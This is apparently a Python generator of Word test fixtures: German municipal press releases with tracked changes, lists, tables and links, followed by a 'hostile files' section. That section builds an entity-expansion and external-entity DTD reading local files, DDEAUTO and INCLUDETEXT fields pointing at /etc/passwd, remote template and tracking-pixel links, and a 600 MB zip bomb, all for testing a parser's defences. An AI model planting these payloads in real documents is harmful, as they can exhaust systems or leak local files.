            properties=f'<w:rPr><w:del w:id="110" {who}/></w:rPr>',
        )
        + _p(
            f'<w:moveFromRangeStart w:id="112" {who} w:name="move201"/>',
            f'<w:moveFrom w:id="113" {who}>{_r(moved)}{_r(moved_end)}</w:moveFrom>',
            properties=f'<w:rPr><w:moveFrom w:id="114" {who}/></w:rPr>',
        )
        + '<w:moveFromRangeEnd w:id="112"/>'
        + _p(
            "Neu ist ein Zuschlag von ",
            _r("5.000 Euro", f'<w:rPrChange w:id="115" {who}><w:rPr>{BOLD}</w:rPr></w:rPrChange>'),
            " für Fahrzeuge mit Elektroantrieb. Voraussetzung ist ein ",
            deleted("überdachter ", 116),
            "Stellplatz mit Lademöglichkeit in der Gemeinde.",
        )
        + _p(
            _r("Interner Vermerk: Zahlen vom Referat 34 bestätigen lassen.", HIDDEN),
            properties=f"<w:rPr>{HIDDEN}</w:rPr>",
        )
        + _p("Anträge bis Ende ", deleted("Juni", 117), inserted("Juli", 118), " möglich", style="Heading1")
        + _p(
            "Vereine können ihre Anträge bis zum 31. Juli 2026 bei der Bezirksverwaltung stellen. ",
            inserted("Über die Förderung entscheidet eine Jury aus Verkehrsverbund, Seniorenvertretung und Landfrauen.", 119),
        )
        + _p(
            f'<w:moveToRangeStart w:id="120" {who} w:name="move201"/>',
            f'<w:moveTo w:id="121" {who}>{_r(moved)}{_r(moved_end)}</w:moveTo>',
            properties=f'<w:rPr><w:moveTo w:id="122" {who}/></w:rPr>',
        )
        + '<w:moveToRangeEnd w:id="120"/>'
        + _p(
            "Seit dem Start des Programms im Jahr 2014 sind in Rheinmark 112 Vereine entstanden. ",
            _r("Sie befördern jährlich rund 900.000 Fahrgäste.", '<w:vanish w:val="0"/>'),
            properties=f'<w:pPrChange w:id="123" {who}><w:pPr><w:pStyle w:val="Heading2"/></w:pPr></w:pPrChange>',
        )
        + _p(
            inserted(
                "Die nächsten Bescheide werden im Oktober auf dem Landestag der Bürgerbusse in Ahlenbach überreicht.", 125
            ),
            properties=f'<w:rPr><w:ins w:id="124" {who}/></w:rPr>',
        )
        + _p(
            _lines(
                "Ministerium für Verkehr und ländliche Räume des Landes Rheinmark",
                deleted("Telefon: 0700 111111", 126) + inserted("Telefon: 0700 678901", 127),
                package.link("mailto:presse@mvl.rheinmark.example", "presse@mvl.rheinmark.example"),
            )
        )
    )
    return package.build(body, created="2026-05-11T09:00:00Z")


def lists() -> bytes:
    """Lists through numbering.xml: nested, mixed, interrupted, started again, switched off."""
    package = _Package()
    switched = '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'
    package.part(
        "styles",
        _styles(
            [
                TITLE_STYLE,
                *HEADING_STYLES,
                ("ListParagraph", "List Paragraph", '<w:pPr><w:ind w:left="720"/></w:pPr>'),
                ("ListBullet", "List Bullet", switched),
            ]
        ),
    )
    package.part("numbering", _numbering([["bullet", "bullet"], ["decimal", "bullet"]], [(0, False), (1, False), (1, True)]))
    body = (
        _p("Medieninformation 47/2026")
        + _p("Ahrenfels, 21.04.2026")
        + _p("Ahrenfels wappnet sich gegen Hitze im Sommer", style="Title")
        + _p(
            "Der Rat der Stadt Ahrenfels hat am Montagabend einstimmig einen Hitzeaktionsplan verabschiedet. Für die ersten "
            "beiden Jahre stehen 730.000 Euro bereit."
        )
        + _p(
            "„Heiße Tage sind für ältere Menschen und kleine Kinder eine ernste Gefahr“, sagte "
            "Bürgermeister Falk Oldenrath nach "
            "der Abstimmung. Der Plan nennt drei Schwerpunkte:"
        )
        + _item("Schatten schaffen", number=1)
        + _item("180 neue Bäume auf Schulhöfen und Plätzen", number=1, level=1)
        + _item("Sonnensegel über sechs Spielplätzen", number=1, level=1)
        + _item("Trinkwasser anbieten", number=1)
        + _item("Zwölf Brunnen in der Innenstadt", number=1, level=1)
        + _item("Nachfüllstationen in allen Bibliotheken", number=1, level=1)
        + _item("Kühle Räume öffnen", number=1)
        + _p("So geht es weiter", style="Heading3")
        + _p("Die Verwaltung arbeitet den Plan in dieser Reihenfolge ab:")
        + _item("Standorte der Brunnen festlegen", number=2)
        + _item("Pflanzung der Bäume ausschreiben", number=2)
        + _item("Frist für Angebote bis zum 15. Juni 2026", number=2, level=1)
        + _item("Erste Pflanzungen ab Oktober", number=2, level=1)
        + _p(
            "Nach der Sommerpause berät der Umweltausschuss über die Ergebnisse. Erst danach folgen "
            "die beiden letzten Schritte:"
        )
        + _item("Sonnensegel bestellen", number=2)
        + _item("Kühle Räume ausschildern", number=2)
        + _p("Tipps für die Bevölkerung", style="Heading3")
        + _p("Das Gesundheitsamt rät bei Temperaturen über 30 Grad zu einfachen Vorkehrungen:")
        + _item("Fenster morgens öffnen und mittags schließen", number=3)
        + _item("Am Tag mindestens zwei Liter trinken", number=3)
        + _item("Nachbarn anrufen und Hilfe anbieten", number=3)
        + _p(
            "Die Hinweise liegen ab Mai auch als Faltblatt im Rathaus aus, in einfacher Sprache und in fünf weiteren Sprachen.",
            style="ListBullet",
            properties='<w:numPr><w:ilvl w:val="0"/><w:numId w:val="0"/></w:numPr><w:ind w:left="0" w:firstLine="0"/>',
        )
        + _p("Stadt Ahrenfels, Referat für Kommunikation")
        + _p("Telefon: 0700 789012")
        + _p(package.link("mailto:medien@ahrenfels.example", "medien@ahrenfels.example"))
    )
    return package.build(body)


def tables() -> bytes:
    """Three tables: plain data, merged cells, and one that is only a frame around a paragraph."""
    title = "Bürgerbüro auf Rädern startet im Juni"
    document = _new_document(title, datetime(2018, 1, 22, 10, 40), "")
    document.add_paragraph("Pressemitteilung Nr. 102/2026")
    document.add_paragraph("Brunnau, den 28. Mai 2026")
    document.add_paragraph(title, style="Title")
    document.add_paragraph(
        "Die Verbandsgemeinde Brunnau schickt vom 8. Juni 2026 an ein Bürgerbüro auf Rädern in ihre "
        "Ortsteile. In dem umgebauten "
        "Linienbus lassen sich Ausweise beantragen, Wohnsitze ummelden und Führungszeugnisse bestellen."
    )
    document.add_paragraph(
        "„Der Weg ins Rathaus ist für viele Menschen weit geworden“, sagte Bürgermeisterin Lioba Gantner. „Also kommen wir zu "
        "ihnen.“ Der Bus ist barrierefrei und mit zwei Arbeitsplätzen ausgestattet."
    )
    document.add_paragraph("Nachfrage steigt seit Jahren", style="Heading 1")
    document.add_paragraph("Die Zahl der Anträge hat zuletzt fast überall zugenommen. Besonders gefragt waren Reisepässe.")
    _append_table(
        document,
        [
            ["Leistung", "Anträge 2024", "Anträge 2025"],
            ["Personalausweis", "3.412", "3.780"],
            ["Reisepass", "1.905", "2.144"],
            ["Ummeldung", "2.630", "2.588"],
        ],
    )
    document.add_paragraph("Das Land Rheinmark trägt 60 Prozent der Anschaffungskosten von 310.000 Euro.")
    document.add_paragraph("Fahrplan für den Juni", style="Heading 3")
    document.add_paragraph("Der Bus steht jeweils auf dem Dorfplatz und kommt alle zwei Wochen wieder.")
    table = _append_table(
        document,
        [
            ["Woche", "Ort", "Sprechzeit", ""],
            ["Erste Woche", "Hohenried", "9 bis 12 Uhr", "14 bis 16 Uhr"],
            ["", "Steinbach", "10 bis 13 Uhr", "15 bis 18 Uhr"],
            ["Zweite Woche", "Auental", "ganztags nach Anmeldung", ""],
            ["", "Kirchfeld", "8 bis 11 Uhr", "13 bis 15 Uhr"],
        ],
    )
    for first, last in (((0, 2), (0, 3)), ((1, 0), (2, 0)), ((3, 2), (3, 3)), ((3, 0), (4, 0))):
        table.cell(*first).merge(table.cell(*last))
    document.add_paragraph("Für den Besuch ist kein Termin nötig.")
    box = document.add_table(1, 1, style="Table Grid")
    box.cell(0, 0).text = (
        "Mitzubringen sind ein gültiges Ausweisdokument, ein biometrisches Passbild und die Gebühr "
        "von 37 Euro. Bezahlt wird im "
        "Bus nur mit Karte."
    )
    document.add_paragraph("Probelauf bis zum Jahresende", style="Heading 1")
    document.add_paragraph(
        "Nach sechs Monaten wertet die Verwaltung die Erfahrungen aus. Der Verbandsgemeinderat "
        "entscheidet im Januar 2027, ob ein "
        "zweites Fahrzeug angeschafft wird."
    )
    _append_contact(
        document,
        "Verbandsgemeinde Brunnau, Pressebüro",
        "Ansprechpartner: Gereon Vogtland",
        "Telefon: 0700 890123",
        mail="pressebuero@brunnau.example",
    )
    return _bytes_of(document)


def pictures() -> bytes:
    """Four pictures; the names in the package say nothing about their order."""
    package = _Package()
    package.part("styles", _styles([TITLE_STYLE, *HEADING_STYLES]))
    ornament = package.picture("image1.png", _draw("PNG", "#ffffff", "#ffffff", "#d4af37"))
    faces = package.picture("image2.png", _draw("PNG", "#b0a090", "#6a5a4a", "#3a3028"))
    hall = package.picture("image3.jpeg", _draw("JPEG", "#f4f1ea", "#8a6f52", "#2f4858"))
    ship = package.picture("image4.jpeg", _draw("JPEG", "#c8c8c8", "#606060", "#202020"))
    floating = _anchored(
        3, "Grafik 3", "Ausstellungssaal mit gerahmten Fotografien an blauen Wänden", _graphic(f'r:embed="{hall}"', "saal.jpg")
    )
    body = (
        _p("Pressemitteilung Nr. 9/2026")
        + _p("Musterhausen, 3. Februar 2026")
        + _p("Stadtmuseum zeigt vergessene Bilder vom alten Hafen", style="Title")
        + _p(
            "Das Stadtmuseum Musterhausen öffnet am 15. Februar 2026 die Ausstellung „Kai und Kran“. Gezeigt werden 140 "
            "Fotografien aus den Jahren 1890 bis 1938, die fast ein Jahrhundert lang auf einem Dachboden lagen."
        )
        + _p(_inline(f'r:embed="{ship}"', 1, alt="Dreimaster am Kai, davor Arbeiter mit Sackkarren"))
        + _p("Foto: Stadtarchiv Musterhausen")
        + _p(
            "Entdeckt wurden die Glasplatten beim Umbau eines Wohnhauses in der Kranstraße. „Wir öffneten eine Holzkiste und "
            "blickten plötzlich in die Gesichter von Hafenarbeitern“, berichtete Museumsleiterin Dr. Carlotta Brehm. Drei "
            "Restauratorinnen haben die Platten in 18 Monaten gereinigt und digitalisiert."
        )
        + _p(_inline(f'r:embed="{faces}"', 2, decorative="0"))
        + _p(
            "Viele der Abgebildeten sind bis heute ohne Namen. Das Museum bittet die Bevölkerung um Hinweise und hat dafür im "
            "Foyer ein Gästebuch ausgelegt."
        )
        + _p("Rundgang durch vier Räume", style="Heading2")
        + _p(
            f"<w:r>{floating}</w:r>",
            "Die Schau führt vom Segelschiff bis zum Motorfrachter \u2013 vorbei an Speichern, "
            "Kneipen und der ersten Werft der "
            "Stadt. An Hörstationen erzählen Nachfahren, was aus den Familien wurde.",
        )
        + _p(_inline(f'r:embed="{ornament}"', 4, alt="", decorative="1"), properties='<w:jc w:val="center"/>')
        + _p(
            "Zu sehen ist die Ausstellung bis zum 31. Mai, dienstags bis sonntags von 11 bis 18 "
            "Uhr. Der Eintritt kostet 6 Euro, "
            "Kinder und Jugendliche zahlen nichts. An jedem ersten Donnerstag im Monat führt "
            "Kurator Emil Tarnow durch die Räume."
        )
        + _p(
            _lines(
                "Stadtmuseum Musterhausen, Öffentlichkeitsarbeit",
                "Telefon: 0700 901234",
                package.link("mailto:museum@musterhausen.example", "museum@musterhausen.example"),
            )
        )
    )
    return package.build(body)


def _notes(kind: str, text: str) -> str:
    """Write footnotes.xml or endnotes.xml: the two separators Word always has, and one note."""
    return (
        f'<w:{kind}s {XMLNS}><w:{kind} w:type="separator" w:id="-1">{_p("<w:r><w:separator/></w:r>")}</w:{kind}>'
        f'<w:{kind} w:type="continuationSeparator" w:id="0">{_p("<w:r><w:continuationSeparator/></w:r>")}</w:{kind}>'
        f'<w:{kind} w:id="1">{_p(f"<w:r><w:{kind}Ref/></w:r>", " " + text)}</w:{kind}></w:{kind}s>'
    )


def links_and_notes() -> bytes:
    """Every kind of link, two notes, and the small signs of a typesetter."""
    package = _Package()
    package.part("styles", _styles([TITLE_STYLE, *HEADING_STYLES]))
    package.part("footnotes", _notes("footnote", "Umfrage der Handelskammer Rheinmark unter 812 Betrieben, Dezember 2025."))
    package.part("endnotes", _notes("endnote", "Landesamt für Statistik, Bericht vom 14. Februar 2023, Seite 9."))
    superscript = '<w:vertAlign w:val="superscript"/>'
    footnote = f'<w:r><w:rPr>{superscript}</w:rPr><w:footnoteReference w:id="1"/></w:r>'
    endnote = f'<w:r><w:rPr>{superscript}</w:rPr><w:endnoteReference w:id="1"/></w:r>'
    simple = quoteattr(' HYPERLINK "https://daten.rheinmark.example/hilfe" ')
    soft = (
        "<w:r><w:t>Verwaltungs</w:t><w:softHyphen/><w:t>modernisie</w:t><w:softHyphen/>"
        '<w:t xml:space="preserve">rung </w:t></w:r>'
    )
    hard = (
        '<w:r><w:t xml:space="preserve">das E</w:t><w:noBreakHyphen/><w:t>Government</w:t><w:noBreakHyphen/>'
        '<w:t xml:space="preserve">Gesetz </w:t></w:r>'
    )
    box = _p("Gut zu wissen: Für die Nutzung der Daten ist weder ein Konto noch eine Gebühr nötig.")
    body = (
        _p("Pressemitteilung Nr. 31/2026")
        + _p("Rheinburg, 24. Februar 2026")
        + _p("Rheinmark öffnet seine Verwaltungsdaten", style="Title")
        + _p(
            "Das Land Rheinmark stellt vom 2. März 2026 an mehr als 1.200 Datensätze seiner Behörden frei zur Verfügung. "
            "Landesregierung und Kommunen haben dafür zwei Jahre lang zusammengearbeitet."
        )
        + _p(
            "Alle Daten stehen im ",
            package.link("https://daten.rheinmark.example/", "Landesportal"),
            " bereit. Eine ",
            f"<w:fldSimple w:instr={simple}>{_r('Kurzanleitung', LINK)}</w:fldSimple>",
            " erklärt die Suche, die ",
            _field(
                [
                    ' HYPERLINK "https://daten.rheinmark.example/',
                    'recht?seite=2&ansicht=liste" \\o "Nutzungsbedingungen lesen" ',
                ],
                _r("Nutzungs", LINK) + _r("bedingungen", LINK),
            ),
            " gelten für alle Datensätze. Fragen beantwortet das Team unter ",
            package.link("mailto:daten@rheinmark.example", "daten@rheinmark.example"),
            ".",
        )
        + _p(
            "„Daten, die mit Steuergeld erhoben werden, gehören der Allgemeinheit“, sagte "
            "Digitalminister Dr. Ruben Achterfeld. "
            "Besonders gefragt seien ",
            _r("Karten zum ", BOLD),
            _r("Hochwasserschutz", BOLD),
            " und der Atlas ",
            _r("Rheinmark in Zahlen", ITALIC),
            ".",
        )
        + _p(
            _text_box(7, box),
            f"Nach einer Umfrage nutzen bereits 37{NBSP}Prozent der Unternehmen offene Daten",
            footnote,
            f", vor drei Jahren waren es 19{NBSP}Prozent.",
            endnote,
            f" Am stärksten wuchs der Anteil in Städten mit{NBSP}",
            '<w:r><w:sym w:font="Symbol" w:char="F0B3"/></w:r>',
            f"{NBSP}50.000 Einwohnern.",
        )
        + _p(
            "Rechtlicher Rahmen der ",
            soft,
            "ist ",
            hard,
            "aus dem vergangenen Herbst. Für Kommunen gibt es ein ",
            package.link("file:///S:/Presse/2026/Merkblatt.docx", "Merkblatt"),
            "; einen Rund\u00adbrief können sie ",
            package.link("javascript:window.open('bestellen')", "hier bestellen"),
            ". Alle Veranstaltungen nennt der ",
            f'<w:hyperlink w:anchor="_Termine" w:history="1">{_r("Abschnitt Termine", LINK)}</w:hyperlink>',
            ".",
        )
        + _p('<w:bookmarkStart w:id="0" w:name="_Termine"/>', "Termine", '<w:bookmarkEnd w:id="0"/>', style="Heading1")
        + _p(
            "Zum ",
            _r("Open Data Day", '<w:lang w:val="en-GB"/>'),
            " am 7. März lädt das Ministerium für Digitales des Landes Rheinmark Schulen, Vereine und Betriebe in die "
            "Landesbibliothek ein.",
        )
        + _p("Beginn:", TAB, "10 Uhr im Lesesaal,", BREAK, "anschließend Werkstätten bis 16 Uhr im Turmzimmer.")
        + _p("Was dort entsteht, wird Ende März auf einer eigenen Seite des Portals vorgestellt.")
    )
    return package.build(body)


def libreoffice() -> bytes:
    """As LibreOffice exports: its own style names, a frame, no theme; the date stands in the page header only."""
    package = _Package()
    package.part(
        "styles",
        _styles(
            [
                ("Heading", "Heading", '<w:pPr><w:keepNext w:val="true"/></w:pPr>'),
                ("Heading1", "Heading 1", _heading(1)),
                ("Textbody", "Text body", '<w:pPr><w:spacing w:before="0" w:after="140"/></w:pPr>'),
                ("Title", "Title", '<w:pPr><w:jc w:val="center"/></w:pPr><w:rPr><w:b/><w:sz w:val="56"/></w:rPr>'),
                ("List1", "List 1", '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'),
                ("Framecontents", "Frame contents", "<w:pPr/>"),
                ("Header", "Header", "<w:pPr/>"),
                ("Footer", "Footer", "<w:pPr/>"),
            ]
        ),
    )
    package.part("numbering", _numbering([["bullet", "bullet"]], [(0, False)]))
    header = package.part("header", f"<w:hdr {XMLNS}>{_p('Wiesenau, 14. April 2026', style='Header')}</w:hdr>", number="1")
    pages = _p("Seite ", _field([" PAGE "], _r("1")), style="Footer")
    footer = package.part("footer", f"<w:ftr {XMLNS}>{pages}</w:ftr>", number="1")
    frame = (
        '<w:framePr w:w="3402" w:h="1134" w:hSpace="142" w:vSpace="142" w:wrap="around" w:vAnchor="text" w:hAnchor="margin" '
        'w:xAlign="right" w:y="1" w:hRule="atLeast"/>'
    )
    empty = "<w:r><w:rPr></w:rPr></w:r>"
    body = (
        _p("Freibad Wiesenau öffnet mit neuem Kassensystem", style="Title")
        + _p(
            "Die Samtgemeinde Wiesenau startet am Freitag, 1. Mai 2026, in die Badesaison. Wegen "
            "der Bauarbeiten am Eingang gibt "
            "es Eintrittskarten erstmals auch im Internet.",
            style="Textbody",
        )
        + _p(
            '<w:bookmarkStart w:id="0" w:name="__DdeLink__14_2093"/>',
            "„Niemand soll bei 30 Grad in der Schlange stehen“, sagte Samtgemeindebürgermeisterin Birte Knoop ",
            '<w:bookmarkEnd w:id="0"/>',
            "beim Rundgang durch das Bad. Drei Drehkreuze und zwei Automaten ersetzen das alte "
            "Kassenhaus aus dem Jahr 1974. Die "
            "Kosten von 215.000 Euro teilen sich Samtgemeinde und Förderverein.",
            style="Textbody",
        )
        + _p(
            "Saisonkarten kosten 85 Euro, für Familien 140 Euro. Wer bis zum 24. April bestellt, spart zehn Prozent.",
            style="Framecontents",
            properties=frame,
        )
        + _p("Das ist neu im Bad", style="Heading1")
        + _p("Über den Winter haben Handwerker und Freiwillige an vielen Stellen gebaut:", style="Textbody")
        + _item("Kletternetz über dem Sprungbecken", number=1, style="List1")
        + _item("Umkleiden mit Wickeltisch", number=1, style="List1")
        + _item("Liegewiese mit zwölf jungen Platanen", number=1, style="List1")
        + _p("Öffnungszeiten und Kurse", style="Heading1")
        + _p(
            "Bis Ende August ist das Bad täglich von 7 bis 20 Uhr geöffnet, im September schließt "
            "es um 18 Uhr. Die Schwimmkurse "
            "für Kinder beginnen am 6. Juli; für die 64 Plätze liegen schon 41 Anmeldungen vor.",
            style="Textbody",
        )
        + _p(
            "Im vergangenen Sommer zählte das Bad 58.300 Gäste, so viele wie seit 2018 nicht mehr.",
            style="Textbody",
        )
        + _p(empty, style="Textbody")
        + _p("Samtgemeinde Wiesenau, Öffentlichkeitsarbeit", style="Textbody")
        + _p("Telefon: 0700 345678", style="Textbody")
        + _p(package.link("mailto:info@wiesenau.example", "info@wiesenau.example"), style="Textbody")
    )
    section = (
        f'<w:headerReference w:type="default" r:id="{header}"/><w:footerReference w:type="default" r:id="{footer}"/>'
        '<w:type w:val="nextPage"/>'
    )
    return package.build(
        body, created="2026-04-14T09:12:44Z", keywords="Freibad, Sport, Freizeit", creator="", language="de-DE", section=section
    )


FILES: dict[str, Callable[[], bytes]] = {
    "styled": styled,
    "german_names": german_names,
    "unstyled": unstyled,
    "tracked": tracked,
    "lists": lists,
    "tables": tables,
    "pictures": pictures,
    "links_and_notes": links_and_notes,
    "libreoffice": libreoffice,
}

# --------------------------------------------------------------------------------------------------------------------
# The hostile files
# --------------------------------------------------------------------------------------------------------------------

OLE_SIGNATURE = bytes.fromhex("D0CF11E0A1B11AE1")
BOMB_SIZE = 600 * 1024 * 1024


def _filler(size: int) -> bytes:
    """Make up bytes that look like something and mean nothing."""
    return bytes((index * 73 + (index >> 5) * 29) & 0xFF for index in range(size))


def macros() -> bytes:
    """A macro-enabled package; the "project" holds no code, only the signature and filler."""
    package = _Package(main_type=MACRO_TYPE)
    package.part("styles", _styles([TITLE_STYLE]))
    package.parts["word/vbaProject.bin"] = OLE_SIGNATURE + _filler(2040)
    package.overrides["word/vbaProject.bin"] = "application/vnd.ms-office.vbaProject"
    package.relate("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    body = (
        _p("Pressemitteilung Nr. 77/2026")
        + _p("Nordstadt, 16. Juni 2026")
        + _p("Kreisarchiv zieht in das frühere Postamt", style="Title")
        + _p(
            "Vom 1. Juli 2026 an bewahrt der Landkreis Nordmark seine Urkunden im früheren Postamt auf. Zehn Lastwagen bringen "
            "rund drei Kilometer Akten an den neuen Ort."
        )
        + _p("„Endlich lagern alle Bestände unter einem Dach“, freute sich Archivleiter Onno Tiedemann.")
    )
    return package.build(body)


def external() -> bytes:
    """Everything that would make a careless reader fetch something: template, linked pictures, OLE link, fields."""
    package = _Package()
    package.part("styles", _styles([TITLE_STYLE]))
    package.part("settings", f'<w:settings {XMLNS}><w:attachedTemplate r:id="rId1"/></w:settings>')
    package.parts["word/_rels/settings.xml.rels"] = _relationships(
        [("rId1", f"{R}/attachedTemplate", "http://tracker.invalid/vorlage.dotm", True)]
    )
    web = package.relate("image", "http://tracker.invalid/pixel.png?von=presse&nr=1", external=True)
    local = package.relate("image", "file:///etc/passwd", external=True)
    sheet = package.relate("oleObject", "file://tracker.invalid/freigabe/zahlen.xlsx", external=True)
    ole = (
        '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1025" style="width:72pt;height:36pt">'
        f'<v:imagedata r:id="{web}" o:title=""/></v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
        f'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="{sheet}" UpdateMode="Always"/></w:object></w:r>'
    )
    body = (
        _p("Rheinburg, 2. Juli 2026")
        + _p("Landesforst pflanzt 90.000 Eichen", style="Title")
        + _p("Der Landesforst Rheinmark beginnt im Herbst mit der größten Aufforstung seit dreißig Jahren.")
        + _p(_inline(f'r:link="{web}"', 1, alt="Junge Eichen in Reihen"))
        + _p(_inline(f'r:link="{local}"', 2, alt="Karte der Pflanzgebiete"))
        + _p("Die Kosten je Hektar zeigt die folgende Übersicht: ", ole)
        + _p(_field([' INCLUDETEXT "file:///etc/passwd" \\c XML '], _r("Eingefügter Text der Forstämter.")))
        + _p(_field([' INCLUDEPICTURE "http://tracker.invalid/baum.png" \\d '], _r("Bild der Baumschule.")))
        + _p(_field([' DDEAUTO excel "C:\\\\Ablage\\\\zahlen.xls" "Z1S1" '], _r("412 Hektar")))
        + _p("„Wir pflanzen für Menschen, die noch gar nicht geboren sind“, sagte Forstdirektorin Mathilda Eschen.")
    )
    return package.build(body)


def entities() -> bytes:
    """A DTD in word/document.xml: entities that multiply to a thousand million words, and one that names a local file."""
    steps = "".join(f'<!ENTITY l{step} "{f"&l{step - 1};" * 10}">' for step in range(1, 10))
    document = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE w:document [<!ENTITY l0 "Hafen">{steps}<!ENTITY lokal SYSTEM "file:///etc/hostname">]>'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Hafenfest am Wochenende</w:t></w:r></w:p>'
        "<w:p><w:r><w:t>Gastgeber ist &lokal;.</w:t></w:r></w:p><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _zip(
        {
            "[Content_Types].xml": _content_types({"word/document.xml": MAIN_TYPE}),
            "_rels/.rels": _relationships([("rId1", f"{R}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": document,
        }
    )


def write_bomb(target: BinaryIO, size: int = BOMB_SIZE) -> None:
    """Stream a small valid package whose document.xml unpacks to `size` bytes of spaces (and a few of markup)."""
    chunk = b" " * (1024 * 1024)
    with ZipFile(target, "w", ZIP_DEFLATED, compresslevel=6) as package:
        for name, text in (
            ("[Content_Types].xml", _content_types({"word/document.xml": MAIN_TYPE})),
            ("_rels/.rels", _relationships([("rId1", f"{R}/officeDocument", "word/document.xml", False)])),
        ):
            package.writestr(ZipInfo(name, (1980, 1, 1, 0, 0, 0)), text)
        info = ZipInfo("word/document.xml", (1980, 1, 1, 0, 0, 0))
        info.compress_type = ZIP_DEFLATED
        with package.open(info, "w") as part:
            part.write(f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t xml:space="preserve">'.encode())
            whole, rest = divmod(size, len(chunk))
            for _ in range(whole):
                part.write(chunk)
            part.write(chunk[:rest])
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")


def bomb() -> bytes:
    """The bomb as bytes: some hundred kilobytes that unpack to 600 MB."""
    buffer = BytesIO()
    write_bomb(buffer)
    return buffer.getvalue()


def truncated() -> bytes:
    """The first half of `styled`, as a broken upload leaves it."""
    whole = styled()
    return whole[: len(whole) // 2]


def not_word() -> bytes:
    """A workbook: a valid package, but not a Word file."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    sheets = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return _zip(
        {
            "[Content_Types].xml": _content_types(
                {"xl/workbook.xml": f"{kind}.sheet.main+xml", "xl/worksheets/sheet1.xml": f"{kind}.worksheet+xml"}
            ),
            "_rels/.rels": _relationships([("rId1", f"{R}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": f'{DECLARATION}<workbook xmlns="{sheets}" xmlns:r="{R}"><sheets>'
            '<sheet name="Verteiler" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _relationships([("rId1", f"{R}/worksheet", "worksheets/sheet1.xml", False)]),
            "xl/worksheets/sheet1.xml": f'{DECLARATION}<worksheet xmlns="{sheets}"><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>Redaktion</t></is></c></row></sheetData></worksheet>',
        }
    )


def legacy() -> bytes:
    """The first 4 KB of an old .doc: the right signature, then made-up bytes."""
    return OLE_SIGNATURE + _filler(4096 - len(OLE_SIGNATURE))


HOSTILE: dict[str, Callable[[], bytes]] = {
    "macros": macros,
    "external": external,
    "entities": entities,
    "bomb": bomb,
    "truncated": truncated,
    "not_word": not_word,
    "legacy": legacy,
}
